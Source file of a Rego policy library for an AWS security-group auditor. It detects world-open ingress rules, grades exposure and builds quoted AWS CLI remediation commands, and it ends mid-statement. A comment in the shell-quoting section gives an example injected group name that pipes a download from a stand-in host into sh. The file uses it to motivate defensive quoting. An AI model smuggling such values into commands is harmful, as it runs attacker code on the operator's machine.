# Package sgaudit.lib.sg holds helpers about security groups: selecting
# rules, looking up cross-group facts in O(1), and building the exact AWS CLI
# command that fixes a finding (sgaudit never runs it).
#
# The engine evaluates input.security_groups in batches; input.coverage and
# input.vpcs are always whole. Lookups over them are package-level sets and
# objects, built once per evaluation (the engine even keeps those that do not
# depend on the batch across batches), never scanned inside the group loop
# (docs/performance.md: `x in array` per group made 20k groups 2.6x slower per group).
package sgaudit.lib.sg

import data.sgaudit.lib.net

# collected_kinds holds "account/region/kind" for every data kind read
# completely in a region (inventory.Coverage.Collected).
collected_kinds := {concat("/", [c.account_id, c.region, k]) |
	some c in input.coverage
	some k in c.collected
}

# known_kinds is every kind collected anywhere; small (a handful of names).
known_kinds := {k |
	some c in input.coverage
	some k in c.collected
}

# collected(g, kind) is true when kind was read completely in g's region.
collected(g, kind) if collected_kinds[concat("/", [g.account_id, g.region, kind])]

# kinds_checked(g) lists, sorted, the data kinds read in g's region: the
# evidence an "unused" verdict rests on. The network kinds
# (docs/inventory.md §5) say nothing of whether a group is used (a load
# balancer's group shows on its interfaces), so they are not listed.
# collected() inlined: a function call per kind was most of an SGA008
# finding's cost.
kinds_checked(g) := sort([k |
	kinds := collected_kinds
	some k in known_kinds
	not network_kinds[k]
	kinds[concat("/", [g.account_id, g.region, k])]
])

# network_kinds are the kinds of the network model (docs/inventory.md §16).
network_kinds := {
	"subnets", "route_tables", "network_acls", "internet_gateways", "egress_only_internet_gateways",
	"addresses", "load_balancers", "target_groups", "classic_load_balancers",
}

# vpc_interfaces maps "account/region/vpc-id" to the number of network
# interfaces in that VPC.
vpc_interfaces := {concat("/", [v.account_id, v.region, v.id]): v.network_interfaces | some v in input.vpcs}

# vpc_interface_count(g) is the interface count of g's VPC; undefined when
# the VPC is not in the inventory.
vpc_interface_count(g) := vpc_interfaces[concat("/", [g.account_id, g.region, g.vpc_id])]

# ---------------------------------------------------------------------------
# The world: 0.0.0.0/0 and ::/0; a managed prefix list whose
# entries include either, or together cover a whole address space; and CIDR
# (or prefix-list) rules of one group, direction, protocol and port range
# that together cover it (0.0.0.0/1 + 128.0.0.0/1).
#
# Cost model (docs/performance.md): one pass over each group's rules with one regex
# per CIDR rule (short_rules); everything after that looks only at the few
# rules it kept. Prefix lists are indexed once per evaluation: they are not
# part of the batch, so the engine keeps these objects for the whole scan.

# prefix_lists["account/region/id"] is the fact of a prefix list: its CIDRs
# and the world they make ("world": ["0.0.0.0/0"], or [] when none). A rule
# names a list by id; ids are per region, and a list shared from another
# account is collected in the account that uses it, so the key is the
# rule's own account and region with the id. One flat object, built in one
# pass over input.prefix_lists (a nested index would cost a scan per
# account and region, quadratic for an organisation).
prefix_lists := {prefix_list_key(pl.account_id, pl.region, pl.id): {
	"id": pl.id,
	"name": object.get(pl, "name", ""),
	"cidrs": cidrs,
	"world": net.world_cidrs(cidrs),
} |
	some pl in input.prefix_lists
	cidrs := [e.cidr | some e in pl.entries]
}

prefix_list_key(account, region, id) := concat("/", [account, region, id])

# candidate_prefix_lists is prefix_lists cut to the lists that can reach the
# world: with a /0-/9 entry. Usually empty, and then no group pays for the
# prefix-list pass at all.
candidate_prefix_lists := {key: pl |
	some key, pl in prefix_lists
	some c in pl.cidrs
	regex.match(net.short_cidr, c)
}

# candidate_regions holds "account/region" of every candidate list, so a
# group elsewhere skips its rules after one lookup.
candidate_regions := {concat("/", [account, region]) |
	some key, _ in candidate_prefix_lists
	[account, region, _] := split(key, "/")
}

# short_rules[i] lists the CIDR rules of input.security_groups[i] with a
# prefix of /0 to /9: the world itself, and the only CIDRs that can be part
# of a set that adds up to it (net.short_cidr), except egress rules
# to the world alone (/0). Every group has AWS's allow-all egress rule to
# 0.0.0.0/0, and only SGA014 (off by default) asks about it: leaving it out
# here keeps most groups out of short_rules and of everything built on it
# (measured: ~10% of the whole pack's cost), and world_egress_pairs finds
# those rules in a pass of its own. It also keeps the ingress rules that
# SGA016 (wide public ranges) may report: prefixes shorter than its largest
# limit for the family (short_pattern). This is the one pass over every
# rule that the world checks and SGA016 pay for: a second pass of its own
# cost SGA016 a quarter of the clean pack (docs/performance.md). Every use
# of short_rules filters its rules again (world_port_pairs: /0;
# seed_rules: /1-/9; SGA016: its limits).
#
# Performance rule for everything below: no reference to a package-level
# rule inside a loop. Each such reference is a virtual-document lookup
# through the evaluation cache (the engine's checks whether the rule is one
# it keeps across batches, under a lock if so); a literal, or a local bound
# before the loop, is a plain lookup.
short_rules := {i: rules |
	pattern := short_pattern
	patterns := {"ingress": `/[0-9]+$`, "egress": `/[1-9]$`}
	some i, g in input.security_groups
	rules := [r |
		# The lookup walks the rules and skips those without a CIDR
		# (group and prefix-list peers) without evaluating an expression.
		some j
		regex.match(pattern, g.rules[j].peer.cidr)

		# Only short rules get here, one or two per group.
		r := g.rules[j]
		regex.match(patterns[r.direction], r.peer.cidr)
	]
	rules[0]
}

# undescribed_rules[i] lists the rules of input.security_groups[i] whose
# description is blank (whitespace included: hand-made JSON may hold tabs
# EC2 would refuse; the contract always carries description), except AWS's
# own egress rule (aws_default_egress), which is on every group and nobody
# wrote: what SGA007 reports. Like short_rules, a pass over every rule of
# every group, so sgaudit computes this value in Go for each batch
# (docs/performance.md, "Rules computed in Go"); `opa` computes it from
# this text, and the two are tested equal.
undescribed_rules := {i: rules |
	some i, g in input.security_groups
	rules := [r |
		# One expression per rule: the ref walks the group's rules, and
		# trim_space's output is unified with "" in the call.
		some j
		trim_space(g.rules[j].description, "")
		r := g.rules[j]
		not aws_default_egress(r.direction, r.protocol, r.peer, r.description)
	]
	rules[0]
}

# short_pattern matches the CIDRs short_rules keeps: a prefix of /0 to /9
# (the world and its parts), or, per family, shorter than the largest
# limit of data.sgaudit.wide_public_ranges (SGA016): with the defaults,
# IPv4 /0-/15 and IPv6 /0-/31. Built once per scan.
short_pattern := sprintf(`^[0-9.]+/(?:%s)$|:[0-9a-f:.]*/(?:%s)$`, [
	short_lengths(wide_limit("ipv4")),
	short_lengths(wide_limit("ipv6")),
])

# wide_limit(family) is the largest SGA016 limit of the family; 0 when the
# data holds none.
wide_limit(family) := max([object.get(wide_limits, [class, family], 0) | some class in ["risky_ports", "other_ports"]])

# wide_limits is data.sgaudit.wide_public_ranges, or {} without it. (Not
# object.get over data.sgaudit: that reads this package too, a recursion.)
default wide_limits := {}

wide_limits := data.sgaudit.wide_public_ranges

# short_lengths(limit) is "0|1|...|m", m being 9 or limit-1 if larger.
short_lengths(limit) := concat("|", [sprintf("%d", [n]) | some n in numbers.range(0, max([9, limit - 1]))])

# listed_rules[i] lists the rules of input.security_groups[i] that name a
# candidate prefix list. Without candidate lists anywhere (the usual case)
# the comprehension ends at its first expression, once per batch.
listed_rules := {i: rules |
	lists := candidate_prefix_lists
	count(lists) > 0
	regions := candidate_regions
	some i, g in input.security_groups
	regions[concat("/", [g.account_id, g.region])]
	rules := [r |
		some r in g.rules
		lists[prefix_list_key(g.account_id, g.region, r.peer.prefix_list_id)]
	]
	rules[0]
}

# world_port_pairs holds [i, r, source] for every ingress rule r of
# input.security_groups[i] through which the world reaches ports (protocol
# tcp, udp or all). The world is a /0 CIDR (source {}: the rule says it
# all), a prefix list that is the world, or a set of rules that make the
# world together (world_unions; the pair names the set's first rule). For
# those two, source is {"peer": text for messages, "rules": the rules to
# revoke, "evidence": what proves it}; world_source turns any pair into
# that shape when a finding needs it. A set of pairs, so three sources need
# no concatenation per group, and a /0 rule that reaches nothing (HTTPS)
# costs no object. It is every pair of world_ports, which the built-in
# checks read instead.
world_port_pairs contains pair if {
	some _, pairs in world_ports
	some pair in pairs
}

# world_ports[[protocol, from_port, to_port]] holds the world_port_pairs
# whose rule opens those ports. An estate's world rules open few distinct
# ports (HTTPS and HTTP on most groups), so the world checks judge each
# (protocol, ports) once per batch and visit only the pairs of those that
# fail: most pairs (an authorised HTTPS rule, a port outside the catalogue)
# are never visited by a check at all. Built from the three sources
# directly; world_port_pairs, the set of all pairs, is for custom policies.
world_ports[[r.protocol, r.from_port, r.to_port]] contains [i, r, {}] if {
	some i, rules in world_cidr_rules
	some r in rules
}

world_ports[[r.protocol, r.from_port, r.to_port]] contains [i, r, prefix_list_source(r, pl)] if {
	lists := candidate_prefix_lists
	some i, rules in listed_rules
	some r in rules
	r.direction == "ingress"
	{"tcp", "udp", "all"}[r.protocol]
	g := input.security_groups[i]
	pl := lists[prefix_list_key(g.account_id, g.region, r.peer.prefix_list_id)]
	pl.world[0]
}

world_ports[[r.protocol, r.from_port, r.to_port]] contains [i, r, union_source(u)] if {
	some i, unions in world_unions
	some u in unions
	r := u.rule
	r.direction == "ingress"
}

# world_cidr_rules[i] lists the ingress rules of input.security_groups[i]
# whose peer is a /0 CIDR (0.0.0.0/0, ::/0) on ports (tcp, udp or all):
# world_port_pairs' first source. A pass over the short rules, which sgaudit
# computes in Go for each batch (docs/performance.md, "Rules computed in
# Go"); `opa` computes it from this text, and the two are tested equal.
world_cidr_rules := {i: rules |
	protocols := {"tcp", "udp", "all"}
	some i, short in short_rules
	rules := [r |
		endswith(short[k].peer.cidr, "/0")
		r := short[k]
		r.direction == "ingress"
		protocols[r.protocol]
	]
	rules[0]
}

# world_egress_pairs is world_port_pairs for egress (SGA014, off by
# default: nothing evaluates it then).
world_egress_pairs contains [i, r, {}] if {
	protocols := {"tcp", "udp", "all"}
	some i, g in input.security_groups
	some r in g.rules
	r.direction == "egress"
	endswith(r.peer.cidr, "/0")
	protocols[r.protocol]
}

world_egress_pairs contains [i, r, prefix_list_source(r, pl)] if {
	lists := candidate_prefix_lists
	some i, rules in listed_rules
	some r in rules
	r.direction == "egress"
	{"tcp", "udp", "all"}[r.protocol]
	g := input.security_groups[i]
	pl := lists[prefix_list_key(g.account_id, g.region, r.peer.prefix_list_id)]
	pl.world[0]
}

world_egress_pairs contains [i, u.rule, union_source(u)] if {
	some i, unions in world_unions
	some u in unions
	u.rule.direction == "egress"
}

# world_port_rules[i] lists the rules of world_port_pairs by group, for
# custom policies that want them per group; the built-in checks use the
# pairs.
world_port_rules := {i: [r | some [j, r, _] in pairs; j == i] |
	pairs := world_port_pairs
	some [i, _, _] in pairs
}

# world_source(r, source) is the source of a world pair in full: for a /0
# rule (source {}) it is made here, for the others it was made with the
# pair. Findings call it, once each.
world_source(r, source) := {
	"peer": r.peer.cidr,
	"rules": [r],
	"evidence": {"peer": r.peer.cidr, "world_via": "cidr", "ip_family": {"cidr_ipv4": "IPv4", "cidr_ipv6": "IPv6"}[r.peer.kind]},
} if {
	source == {}
}

else := source

prefix_list_source(r, pl) := {
	"peer": text,
	"rules": [r],
	"evidence": {
		"peer": text,
		"world_via": "prefix_list",
		"ip_family": concat(", ", [net.ip_family(w) | some w in pl.world]),
		"prefix_list": {"id": pl.id, "name": pl.name, "world_cidrs": pl.world},
	},
} if {
	text := prefix_list_text(pl)
}

union_source(u) := {
	"peer": text,
	"rules": u.rules,
	"evidence": {
		"peer": text,
		"world_via": "cidr_union",
		"ip_family": u.ip_family,
		"cidrs": u.cidrs,
		"rule_ids": [object.get(m, "id", "") | some m in u.rules],
	},
} if {
	text := concat(" + ", u.peers)
}

# world_unions[i] lists the sets of rules of input.security_groups[i] that
# together are the world though none is alone: {"rule": the first rule with
# the set's protocol and ports, "rules": every rule of the set, "cidrs",
# "peers", "ip_family"}. A set is judged on the protocol and port range of
# one of its rules (the seed): it holds the rules of the same direction and
# address family whose protocol and range contain the seed's (tcp 22 from
# 0.0.0.0/1 and tcp 0-65535 from 128.0.0.0/1 make SSH from the world). Two
# rules whose ranges only partly overlap are not combined.
#
# Seeds are the short rules that are not the world alone, and the /1-/9
# entries of candidate prefix lists that are not the world alone. Before
# any merge, net.world_union_possible's bound (inlined: 1,000 longer CIDRs
# add at most 1000/1024 of the space, so the seeds of one direction and
# family must bring 24/1024, the 24 below) rules most groups out: a lone
# 10.0.0.0/8 (4/1024) stops there.
#
# Linear in a group's seeds before the merges: the units of each direction
# and family are added up once, and union_for takes the seed's direction,
# protocol and ports, not the seed, so that seeds sharing them (every /2-/9
# rule of a group on the same port) share one call. Per seed, a group at
# AWS's limit of 1,000 rules took seconds.
world_unions := {i: unions |
	some i, seeds in union_seeds
	g := input.security_groups[i]
	units := {[dir, v6]: sum([t.units |
		some t in seeds
		t.rule.direction == dir
		contains(t.cidr, ":") == v6
	]) |
		some dir in {s.rule.direction | some s in seeds}
		some v6 in [false, true]
	}
	key := union_key
	unions := {u |
		some s in seeds
		v6 := contains(s.cidr, ":")
		units[[s.rule.direction, v6]] >= 24
		u := union_for(g, object.filter(s.rule, key), v6)
	}
	unions[_]
}

# union_key is what union_for reads of a seed.
union_key := ["direction", "protocol", "from_port", "to_port"]

# seed_rules[i] lists group i's short rules that are not the world alone
# (/1-/9) and carry ports: the CIDR seeds of world_unions. One pass over the
# short rules; a group with none (most) has no key. sgaudit computes it in
# Go for each batch, like world_cidr_rules.
seed_rules := {i: seeds |
	protocols := {"tcp", "udp", "all"}
	some i, rules in short_rules
	seeds := [r | regex.match(`/[1-9]$`, rules[k].peer.cidr); r := rules[k]; protocols[r.protocol]]
	seeds[0]
}

# union_seeds[i] lists group i's seeds as {"rule", "cidr", "units"}, units
# being the share of the address space in 1024ths (net.union_units), for
# the groups whose seeds reach the bound in total. Three bodies with
# disjoint conditions, cheapest first, because every group with a
# 10.0.0.0/8 rule comes here: one seed alone needs /1-/5 (units >= 32; a
# /6 is 16), which one regex tells; two or more are added up; groups with
# prefix-list seeds (rare) take the general way.
union_seeds[i] := [{"rule": r, "cidr": r.peer.cidr, "units": net.union_units(r.peer.cidr)}] if {
	listed := listed_rules
	some i, [r] in seed_rules
	not listed[i]
	regex.match(`/[1-5]$`, r.peer.cidr)
}

union_seeds[i] := seeds if {
	listed := listed_rules
	some i, rules in seed_rules
	rules[1]
	not listed[i]
	seeds := [{"rule": r, "cidr": r.peer.cidr, "units": net.union_units(r.peer.cidr)} | some r in rules]
	sum([s.units | some s in seeds]) >= 24
}

union_seeds[i] := seeds if {
	listed := listed_rules
	count(listed) > 0
	cidr_seeds := seed_rules
	lists := candidate_prefix_lists
	some i, rules in listed
	seeds := array.concat(
		[{"rule": r, "cidr": r.peer.cidr, "units": net.union_units(r.peer.cidr)} | some r in object.get(cidr_seeds, i, [])],
		list_seeds(input.security_groups[i], rules, lists),
	)
	sum([s.units | some s in seeds]) >= 24
}

# list_seeds(g, rules, lists) are the seeds of g's rules that name a
# candidate prefix list (lists) that is not the world alone: its /1-/9
# entries. Called only for groups with such rules.
list_seeds(g, rules, lists) := [{"rule": r, "cidr": c, "units": net.union_units(c)} |
	some r in rules
	pl := lists[prefix_list_key(g.account_id, g.region, r.peer.prefix_list_id)]
	not pl.world[0]
	{"tcp", "udp", "all"}[r.protocol]
	some c in pl.cidrs
	regex.match(`/[1-9]$`, c)
]

# union_for(g, seed, v6) is the set of rules seeded by seed (a rule's
# direction, protocol and ports) in one family, when together they are the
# world; undefined otherwise.
union_for(g, seed, v6) := u if {
	members := [m |
		some r in g.rules
		r.direction == seed.direction
		contains_range(r, seed)
		cidrs := member_cidrs(g, r, v6)
		cidrs[0]
		m := {"rule": r, "cidrs": cidrs}
	]
	cidrs := sort({c | some m in members; some c in m.cidrs})
	world := net.world_cidrs(cidrs)
	world[0]
	rules := [m.rule | some m in members]
	u := {
		"rule": [r |
			some r in rules
			r.protocol == seed.protocol
			r.from_port == seed.from_port
			r.to_port == seed.to_port
		][0],
		"rules": rules,
		"cidrs": cidrs,
		"peers": sort({net.peer_text(r.peer) | some r in rules}),
		"ip_family": net.ip_family(world[0]),
	}
}

# contains_range(r, seed) is true when rule r admits everything seed does:
# the same protocol or all, and a port range that holds seed's.
contains_range(r, seed) if {
	r.protocol == seed.protocol
	r.from_port <= seed.from_port
	seed.to_port <= r.to_port
}

contains_range(r, _) if r.protocol == "all"

# member_cidrs(g, r, v6) lists the CIDRs of one family that rule r brings to
# a union: its own CIDR, or its prefix list's entries. Rules and lists that
# are the world alone are reported on their own, not as part of a union.
member_cidrs(g, r, v6) := [r.peer.cidr] if {
	net.cidr_peer_kinds[r.peer.kind]
	contains(r.peer.cidr, ":") == v6
	not net.is_world(r.peer.cidr)
}

else := [c |
	pl := prefix_lists[prefix_list_key(g.account_id, g.region, r.peer.prefix_list_id)]
	count(pl.world) == 0
	some c in pl.cidrs
	contains(c, ":") == v6
] if {
	r.peer.kind == "prefix_list"
}

else := []

# prefix_list_text(pl) names a world prefix list and what makes it the world:
# "pl-1 (corp, covers 0.0.0.0/0)".
prefix_list_text(pl) := sprintf("%s (%s, covers %s)", [pl.id, pl.name, concat(" and ", pl.world)]) if pl.name != ""

else := sprintf("%s (covers %s)", [pl.id, concat(" and ", pl.world)])

# world_ingress(g) lists g's ingress rules whose peer is 0.0.0.0/0 or ::/0,
# any protocol. For custom policies; the built-in checks use world_port_pairs,
# which also expands prefix lists and CIDR sets.
world_ingress(g) := [r |
	some r in g.rules
	r.direction == "ingress"
	net.is_world_peer(r.peer)
]

# ---------------------------------------------------------------------------
# The port catalogue (data.sgaudit.ports: admin, database, high_risk, and any
# category a --data file adds), indexed once per evaluation so that a world
# rule is matched against every category in one step for all checks.

# catalogue_pairs lists every catalogue entry with its category.
catalogue_pairs := [[category, e] |
	some category, entries in data.sgaudit.ports
	some e in entries
]

# catalogue_index[port] lists the [category, entry] pairs naming port, for
# entries of at most net.max_indexed_range ports; wide_catalogue the rest.
catalogue_index := {p: [pair |
	some pair in catalogue_pairs
	pair[1].from_port <= p
	p <= pair[1].to_port
] |
	some pair in catalogue_pairs
	pair[1].to_port - pair[1].from_port <= net.max_indexed_range
	some p in numbers.range(pair[1].from_port, pair[1].to_port)
}

wide_catalogue := [pair |
	some pair in catalogue_pairs
	pair[1].to_port - pair[1].from_port > net.max_indexed_range
]

# world_port_hits[ports] is {category: [entry]}, the catalogue services
# that a world rule on ports (a key of world_ports) reaches, for the ports
# that reach any. All traffic reaches the whole catalogue, whatever its
# ports say.
world_port_hits[ports] := hits if {
	some ports, _ in world_ports
	hits := port_hits(ports)
}

port_hits([protocol, _, _]) := catalogue_by_category if {
	protocol == "all"
	count(catalogue_by_category) > 0
}

port_hits([protocol, from, to]) := by_category(pairs) if {
	protocol != "all"
	pairs := catalogue_hits({"protocol": protocol, "from_port": from, "to_port": to})
	pairs[0]
}

# world_reach holds [i, r, source, hits] for each world port rule
# (world_port_pairs) that reaches a catalogue service, hits being
# {category: [entry]}: world_port_hits by pair, for custom policies (the
# built-in checks go by world_port_hits, then world_ports). Rules that reach
# nothing (HTTPS, HTTP) are not in it.
world_reach contains [i, r, source, hits] if {
	some ports, hits in world_port_hits
	some [i, r, source] in world_ports[ports]
}

# catalogue_hits(r) lists the [category, entry] pairs whose ports rule r
# reaches over one of the entry's protocols. All traffic reaches every
# entry; a port range is compared with each entry, inline (two function
# calls per entry made an all-traffic or 0-65535 rule cost ~100 µs).
catalogue_hits(r) := catalogue_pairs if r.protocol == "all"

else := array.concat(
	[pair |
		some pair in catalogue_index[r.from_port]
		net.matches_protocol(r, pair[1].protocols)
	],
	[pair |
		some pair in wide_catalogue
		net.matches_protocol(r, pair[1].protocols)
		net.overlaps(r, pair[1])
	],
) if {
	r.from_port == r.to_port
	r.protocol != "all"
}

else := [pair |
	some pair in catalogue_pairs
	r.protocol in pair[1].protocols
	r.from_port <= pair[1].to_port
	pair[1].from_port <= r.to_port
] if {
	net.port_protocols[r.protocol]
}

else := []

# catalogue_by_category is by_category(catalogue_pairs): the catalogue
# without its empty categories.
catalogue_by_category := {category: entries |
	some category, entries in data.sgaudit.ports
	entries[0]
}

by_category(pairs) := {category: [pair[1] | some pair in pairs; pair[0] == category] |
	some category in {pair[0] | some pair in pairs}
}

# public_attachments(g) lists the interfaces carrying g that have a public
# IP, with what they belong to, sorted by interface id.
public_attachments(g) := [{
	"network_interface_id": a.network_interface_id,
	"public_ip": ip,
	"resource": object.get(a, "resource", ""),
} |
	some a in g.attachments
	ip := a.public_ip
	ip != ""
]

# public_text(public) is the message suffix naming the public interfaces
# (from public_attachments) a world check found the group on; "" for none.
public_text(public) := "" if count(public) == 0

else := sprintf("; the group is on %d interface(s) with a public IP: %s", [
	count(public),
	concat(", ", [sprintf("%s (%s, %s)", [a.network_interface_id, a.public_ip, resource_text(a.resource)]) | some a in public]),
])

resource_text(resource) := resource if resource != ""

else := "no attached resource"

# escalation(check, public) raises a world finding to the severity in
# data.sgaudit.severities[check].public_interface (CRITICAL by default) when
# an interface carrying the group has a public IP: "could be exposed" becomes
# "is exposed". It is {} otherwise, to object.union into a finding.
escalation(check, public) := {"severity": severity} if {
	count(public) > 0
	severity := object.get(data.sgaudit.severities, [check, "public_interface"], "CRITICAL")
}

else := {}

# reach_rows(g, r, entries) are g's verified-exposure verdicts
# (input.reachability, derived by the scan in Go before evaluation and
# keyed by "account/region/group": docs/inventory.md §16) that concern
# rule r and the catalogue entries a world check found it opening: the
# same protocol and overlapping ports; a not_verified row for all
# protocols concerns every rule.
reach_rows(g, r, entries) := [v |
	some v in group_verdicts(g)
	reach_concerns(v, r, entries)
]

# group_verdicts(g) are g's rows of input.reachability, [] when it has none.
# A reference into input.reachability, not object.get(input, ...): passing
# input whole lets a policy read any key, so the engine would convert every
# interface and the whole network model for each scan (docs/architecture.md
# §6, "Input as OPA values").
group_verdicts(g) := vs if {
	vs := input.reachability[concat("/", [g.account_id, g.region, g.id])]
} else := []

reach_concerns(v, _, _) if v.protocol == "all"

reach_concerns(v, r, entries) if {
	v.protocol != "all"
	r.protocol in {"all", v.protocol}
	some e in entries
	v.protocol in e.protocols
	e.from_port <= v.to_port
	v.from_port <= e.to_port
	rule_overlaps(r, v)
}

rule_overlaps(r, _) if r.protocol == "all"

rule_overlaps(r, v) if {
	r.protocol != "all"
	r.from_port <= v.to_port
	v.from_port <= r.to_port
}

# exposure(check, g, r, entries, public, legacy) grades a world finding by
# verified exposure (docs/reachability.md §4): "escalation" to
# object.union into the finding, "text" to end its message, "verdict".
#   - reachable on an interface carrying the group: the severity in
#     data.sgaudit.severities[check].reachable (CRITICAL by default), and
#     the path;
#   - not verified (network data missing): today's public-IP escalation
#     when legacy (the check had one), and why it was not verified;
#   - verified not reachable: the check's own severity, and every blocker;
#   - no verdict (no interface of the group has a public address or a load
#     balancer in front of it): as before, with a note when a public
#     interface could not be analysed at all.
# Missing data never lowers a severity.
exposure(check, g, r, entries, public, legacy) := exposure_of(check, reach_rows(g, r, entries), public, legacy)

# exposure_of is exposure on the group's verdict rows for the rule, gathered
# once by the caller rather than once per branch (three times for a finding
# without a verdict, most of them).
exposure_of(check, rows, public, legacy) := result if {
	reachable := [v | some v in rows; v.verdict == "reachable"]
	count(reachable) > 0
	result := {
		"escalation": {"severity": object.get(data.sgaudit.severities, [check, "reachable"], "CRITICAL")},
		"text": sprintf("; verified reachable from the internet on %s %s", [reachable[0].network_interface_id, reachable[0].detail]),
		"verdict": "reachable",
	}
} else := result if {
	unverified := [v | some v in rows; v.verdict == "not_verified"]
	count(unverified) > 0
	result := {
		"escalation": legacy_escalation(check, public, legacy),
		"text": sprintf("%s; reachability not verified (%s: %s)", [public_text(public), unverified[0].network_interface_id, unverified[0].detail]),
		"verdict": "not_verified",
	}
} else := result if {
	blocked := [v | some v in rows; v.verdict == "not_reachable"]
	count(blocked) > 0
	result := {
		"escalation": {},
		"text": sprintf("%s; open in the group but not reachable from the internet on %s: %s", [public_text(public), blocked[0].network_interface_id, blocked[0].detail]),
		"verdict": "not_reachable",
	}
} else := result if {
	count(public) > 0
	result := {
		"escalation": legacy_escalation(check, public, legacy),
		"text": sprintf("%s; reachability not verified (the network data it needs, subnets, route tables, network ACLs and internet gateways, was not collected for these interfaces)", [public_text(public)]),
		"verdict": "not_verified",
	}
} else := {"escalation": {}, "text": "", "verdict": "none"}

legacy_escalation(check, public, true) := escalation(check, public)

legacy_escalation(_, _, false) := {}

# is_aws_default_egress(r) is true for the egress rule AWS adds to every new
# group (all traffic to 0.0.0.0/0, or ::/0 in an IPv6 VPC) while it still has
# no description. It is not a choice anyone made, so describing it is noise.
is_aws_default_egress(r) if aws_default_egress(r.direction, r.protocol, r.peer, object.get(r, "description", ""))

# aws_default_egress(direction, protocol, peer, description) is the one
# definition of is_aws_default_egress, on the rule's fields: OPA indexes a
# function's branches on plain arguments, so a rule that is not egress or
# not all traffic is turned away by the index, without evaluating the body.
# SGA007 calls it for every undescribed rule, SGA014 for each finding,
# rather than inlining a copy that could drift (a copy matching "0.0.0.0/0"
# and "::/0" exactly once missed other spellings of /0).
aws_default_egress(direction, protocol, peer, description) if {
	direction == "egress"
	protocol == "all"
	net.is_world_peer(peer)
	not has_description({"description": description})
}

# has_description(r) is true when the rule has a non-blank description
# (absent, null and whitespace-only all count as none).
has_description(r) if {
	d := object.get(r, "description", "")
	is_string(d)
	trim_space(d) != ""
}

# default_groups holds the index in input.security_groups of every default
# group (one per VPC): what SGA009 and SGA010 look at. The ref walks the
# groups and skips the others inside the lookup; sgaudit computes this
# value in Go for each batch (docs/performance.md, "Rules computed in Go"),
# so the two checks do not each walk every group.
default_groups := {i | input.security_groups[i].is_default}

# has_attachments(g) is true when an interface carries g; attachments may be
# absent, null or empty.
has_attachments(g) if {
	some _ in g.attachments
}

# max_listed bounds how many items (interfaces, rules) a message lists before
# "and N more"; evidence always has them all.
max_listed := 5

# label(g) is how messages name a group: "sg-1 (web)".
label(g) := sprintf("%s (%s)", [g.id, g.name])

# ---------------------------------------------------------------------------
# Shell quoting. Names, descriptions and anything read from imported JSON are
# attacker-controlled: a group named `x'; curl evil | sh; '` must not turn a
# copied remediation command into a different command.
#
# The builders below run once per finding, and SGA007 can have a finding per
# rule, so they keep function calls and builtins few.

# shell_quote(s) wraps s in single quotes, closing and escaping any quote in s.
shell_quote(s) := sprintf("'%s'", [s]) if indexof(s, "'") == -1

else := sprintf("'%s'", [replace(s, "'", `'\''`)])

# safe_word matches what needs no quoting: AWS ids, regions and CIDRs.
safe_word := `^[A-Za-z0-9][A-Za-z0-9._:/=+,@-]*$`

# shell_word(s) leaves AWS ids bare (sg-1, sgr-1, eu-west-1) and quotes
# anything else, so a forged id in imported JSON cannot inject either.
shell_word(s) := s if regex.match(safe_word, s)

else := shell_quote(s)

# safe_pair is safe_word twice, for target's one-regex fast path.
safe_pair := `^[A-Za-z0-9][A-Za-z0-9._:/=+,@-]* [A-Za-z0-9][A-Za-z0-9._:/=+,@-]*$`

# target(g) is "--region R --group-id ID", which every command names. The
# fast path is safe_pair, inlined: one regex, no reference per finding.
target(g) := sprintf("--region %s --group-id %s", [g.region, g.id]) if {
	regex.match(`^[A-Za-z0-9][A-Za-z0-9._:/=+,@-]* [A-Za-z0-9][A-Za-z0-9._:/=+,@-]*$`, concat(" ", [g.region, g.id]))
}

else := sprintf("--region %s --group-id %s", [shell_word(g.region), shell_word(g.id)])

# The CLI verbs per direction. A direction outside the contract finds no verb
# and the command is "" rather than a guess.
revoke_verb := {"ingress": "revoke-security-group-ingress", "egress": "revoke-security-group-egress"}

describe_verb := {
	"ingress": "update-security-group-rule-descriptions-ingress",
	"egress": "update-security-group-rule-descriptions-egress",
}

# ---------------------------------------------------------------------------
# AWS CLI shorthand for one rule, as --ip-permissions takes it:
# https://docs.aws.amazon.com/cli/latest/reference/ec2/revoke-security-group-ingress.html

# ranged_protocols put ports, or ICMP type and code, in FromPort/ToPort.
ranged_protocols := {"tcp", "udp", "icmp", "icmpv6"}

# ip_protocol_part and peer_part take plain values, not the rule, so that OPA
# indexes their branches (see net.ports_text): they run once per finding.
ip_protocol_part(protocol, from, to) := "IpProtocol=-1" if protocol == "all"

else := sprintf("IpProtocol=%s,FromPort=%d,ToPort=%d", [protocol, from, to]) if ranged_protocols[protocol]

else := sprintf("IpProtocol=%s", [protocol])

# peer_part(kind, peer, account_id, extra) renders the peer; extra is
# appended inside the braces (",Description=...") or is "". A reference to
# another account's group needs its owner as UserId.
peer_part(kind, peer, account_id, extra) := sprintf("IpRanges=[{CidrIp=%s%s}]", [peer.cidr, extra]) if kind == "cidr_ipv4"

else := sprintf("Ipv6Ranges=[{CidrIpv6=%s%s}]", [peer.cidr, extra]) if kind == "cidr_ipv6"

else := sprintf("PrefixListIds=[{PrefixListId=%s%s}]", [peer.prefix_list_id, extra]) if kind == "prefix_list"

else := sprintf("UserIdGroupPairs=[{UserId=%s,GroupId=%s%s}]", [owner, peer.group_id, extra]) if {
	owner := object.get(peer, "group_owner", "")
	owner != ""
	owner != account_id
}

else := sprintf("UserIdGroupPairs=[{GroupId=%s%s}]", [peer.group_id, extra])

# ip_permission(g, r) is the shorthand of one rule, unquoted.
ip_permission(g, r) := sprintf("%s,%s", [
	ip_protocol_part(r.protocol, r.from_port, r.to_port),
	peer_part(r.peer.kind, r.peer, g.account_id, ""),
])

# ---------------------------------------------------------------------------
# Remediation commands.

# revoke_command(g, r) removes one rule: by its id when the source had one,
# else by its content (exported describe-security-groups JSON has no ids).
# The first branch is the usual case (plain AWS ids) at one regex (safe_word
# three times, inlined) and one sprintf; the others quote what needs it.
revoke_command(g, r) := sprintf("aws ec2 revoke-security-group-%s --region %s --group-id %s --security-group-rule-ids %s", [
	{"ingress": "ingress", "egress": "egress"}[r.direction], g.region, g.id, r.id,
]) if {
	# Exported JSON has no rule ids: a comparison, not the regex, tells.
	r.id != ""
	regex.match(`^[A-Za-z0-9][A-Za-z0-9._:/=+,@-]* [A-Za-z0-9][A-Za-z0-9._:/=+,@-]* [A-Za-z0-9][A-Za-z0-9._:/=+,@-]*$`, concat(" ", [g.region, g.id, r.id]))
}

else := sprintf("aws ec2 revoke-security-group-%s --region %s --group-id %s --ip-permissions '%s'", [
